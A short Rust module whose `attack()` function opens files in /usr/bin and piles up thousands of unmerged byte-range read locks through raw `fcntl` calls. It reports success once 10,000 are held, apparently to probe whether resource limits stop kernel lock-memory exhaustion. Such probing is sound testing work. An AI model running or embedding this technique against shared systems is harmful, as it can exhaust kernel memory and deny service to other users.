use std::fs::File;
use std::io;
use std::os::fd::AsRawFd;
use std::sync::atomic::{AtomicBool, Ordering};

unsafe extern "C" {
    fn fcntl(file: i32, command: i32, lock: *const Lock) -> i32;
}

#[repr(C)]
struct Lock {
    kind: i16,
    from: i16,
    start: i64,
    length: i64,
    process: i32,
}

const SET_LOCK: i32 = 6;
const TO_READ: i16 = 0;
/// Each is some 200 bytes of the kernel's, and each more in one file takes longer.
const IN_ONE_FILE: i64 = 250;
const ENOUGH: i64 = 10_000;
static TRIED: AtomicBool = AtomicBool::new(false);

/// Every other byte, so that no two of them become one.
fn locked(file: &File) -> i64 {
    let lock = |at: &i64| {
        let lock = Lock { kind: TO_READ, from: 0, start: 2 * at, length: 1, process: 0 };
        unsafe { fcntl(file.as_raw_fd(), SET_LOCK, &lock) == 0 }
    };
    (0..IN_ONE_FILE).take_while(lock).count() as i64
}

pub fn attack() -> io::Result<Option<String>> {
    if TRIED.swap(true, Ordering::SeqCst) {
        return Ok(None);
    }
    let files: Vec<File> = std::fs::read_dir("/usr/bin")?
        .flatten()
        .filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_file()))
        .filter_map(|entry| File::open(entry.path()).ok())
        .take(40)
        .collect();
    let mut count = 0;
    for file in &files {
        count += locked(file);
    }
    Ok((count >= ENOUGH).then(|| format!("{count} locks at once")))
}
